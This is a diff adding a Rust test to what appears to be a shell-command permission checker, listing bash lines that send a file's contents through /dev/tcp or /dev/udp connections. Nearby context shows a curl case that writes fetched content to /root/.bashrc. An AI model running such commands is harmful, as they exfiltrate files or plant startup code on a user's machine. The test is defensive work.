@@ -318,6 +318,24 @@ fn what_is_run_here_to_reach_something_else_stays_in_the_box() {
 }
 
 #[test]
+fn a_connection_that_bash_opens_is_in_no_rule() {
+    for line in [
+        "cat a > /dev/tcp/127.0.0.1/80",
+        "cat a >> /dev/udp/host/53",
+        "cat a &> /dev/tcp/host/80",
+        "cat a >| /dev/tcp/$HOST/80",
+        "cat < /dev/tcp/host/80",
+        "cat a 3<> /dev/tcp/host/80 >&3",
+        "cat a | cat > /dev/tcp/host/80",
+        "{ cat a; } > /dev/tcp/host/80",
+        "while true; do cat a; done < /dev/tcp/host/80",
+        "exec 3<>/dev/tcp/host/80; cat a >&3",
+    ] {
+        check_stays(line, "cat | exec | true");
+    }
+}
+
+#[test]
 fn what_is_fetched_is_written_where_it_says() {
     for (line, expected) in [
         ("curl -o /root/.bashrc http://x", "/root/.bashrc"),
